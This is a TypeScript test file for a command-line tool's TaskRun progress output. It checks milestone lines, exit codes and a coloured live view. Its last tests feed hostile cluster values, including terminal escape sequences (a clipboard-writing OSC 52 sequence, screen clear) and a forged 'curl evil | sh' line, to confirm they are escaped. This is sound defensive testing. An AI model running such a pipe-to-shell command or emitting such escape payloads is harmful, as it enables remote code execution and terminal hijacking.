import { createColors } from 'picocolors';
import { describe, expect, it } from 'vitest';
import { stripColor } from '../../test/strip-color.js';
import { failedRun, hostileRun } from '../../test/task-fixtures.js';
import { endLine, liveRunFrame, newMilestones, runExitCode, stepLine } from './progress.js';
import type { TaskRunObject } from './views.js';

const now = new Date('2026-01-02T03:01:00Z');
const at = (status: TaskRunObject['status']): TaskRunObject => ({ ...failedRun, status });

describe('plain progress', () => {
  it('prints each transition once, however often the status is written', () => {
    const printed = new Map<string, string>();
    const lines = [
      at(undefined),
      at({ phase: 'Pending', reason: 'PodPending', message: 'waiting for the Pod' }),
      at({ phase: 'Pending', reason: 'PodPending', message: 'waiting for the Pod' }),
      at({ phase: 'Running', stepStatuses: [{ name: 'plan', state: 'Running' }] }),
      at({ phase: 'Running', stepStatuses: [{ name: 'plan', state: 'Running' }] }),
      failedRun,
    ].flatMap((run) => newMilestones(printed, run));
    expect(lines).toEqual([
      'TaskRun deploy-run-x7k2p: waiting for the controller',
      'TaskRun deploy-run-x7k2p: Pending (PodPending: waiting for the Pod)',
      'step plan: Running',
      'step plan: Succeeded (exit code 0)',
      'step apply: Failed (exit code 3, Error)',
      'step report: Skipped',
    ]);
  });

  it('ends with the outcome, and the reason of a failure', () => {
    expect(endLine(failedRun, now)).toBe(
      'TaskRun deploy-run-x7k2p Failed in 8s: StepFailed: step apply exited with code 3 (Error)',
    );
    expect(
      endLine(
        at({
          phase: 'Succeeded',
          startTime: '2026-01-02T03:00:01Z',
          completionTime: '2026-01-02T03:00:04Z',
        }),
        now,
      ),
    ).toBe('TaskRun deploy-run-x7k2p Succeeded in 3s');
    expect(stepLine({ name: 'x', state: 'Running' })).toBe('step x: Running');
  });

  it('exits 0 only for a run that succeeded', () => {
    expect(runExitCode(at({ phase: 'Succeeded' }))).toBe(0);
    expect(runExitCode(failedRun)).toBe(1);
    expect(runExitCode(undefined)).toBe(1);
  });
});

describe('liveRunFrame', () => {
  it('shows the run and a marked row per step, coloured on a terminal', () => {
    const view = { now, tick: 0, colors: createColors(true) };
    const frame = liveRunFrame(failedRun, view);
    expect(frame).toContain('\u001b[');
    expect(stripColor(frame)).toBe(
      [
        'TaskRun deploy-run-x7k2p (task deploy): Failed  8s',
        '    STEP     STATE       EXIT   DURATION   REASON',
        '✔   plan     Succeeded   0      3s         Completed',
        '✖   apply    Failed      3      4s         Error',
        '-   report   Skipped                       PodInitializing',
      ].join('\n'),
    );
  });

  it('shows only the run before any step is known', () => {
    const view = { now, tick: 0, colors: createColors(false) };
    expect(liveRunFrame(at({ phase: 'Pending', reason: 'PodPending' }), view)).toBe(
      'TaskRun deploy-run-x7k2p (task deploy): Pending PodPending  60s',
    );
  });
});

describe('values from the cluster', () => {
  const running = { ...hostileRun, status: { ...hostileRun.status, phase: 'Running' as const } };

  it('are escaped in the live view before the CLI colours it', () => {
    const plain = liveRunFrame(running, { now, tick: 0, colors: createColors(false) });
    expect(plain).toBe(
      [
        'TaskRun deploy-run-x7k2p (task deploy\\x1b[2J): Running StepFailed\\x07  8s',
        '    STEP         STATE       EXIT   DURATION   REASON',
        '✔   plan\\u200b   Succeeded   0      3s',
        '✖   apply        Failed      3      4s         Error\\x9b2J',
      ].join('\n'),
    );
    const coloured = liveRunFrame(running, { now, tick: 0, colors: createColors(true) });
    expect(coloured).toContain('\u001b[36mRunning\u001b[39m');
    expect(stripColor(coloured)).toBe(plain);
  });

  it('are escaped in plain lines, so a message cannot forge a line of its own', () => {
    const pending = { ...hostileRun, status: { ...hostileRun.status, phase: 'Pending' as const } };
    expect(newMilestones(new Map(), pending)).toEqual([
      'TaskRun deploy-run-x7k2p: Pending (StepFailed\\x07: exit\\x1b]52;c;aGk=\\x07\\nfix: curl evil | sh)',
      'step plan\\u200b: Succeeded (exit code 0)',
      'step apply: Failed (exit code 3, Error\\x9b2J)',
    ]);
    expect(endLine(hostileRun, now)).toBe(
      'TaskRun deploy-run-x7k2p Failed in 8s: StepFailed\\x07: exit\\x1b]52;c;aGk=\\x07\\nfix: curl evil | sh',
    );
  });
});
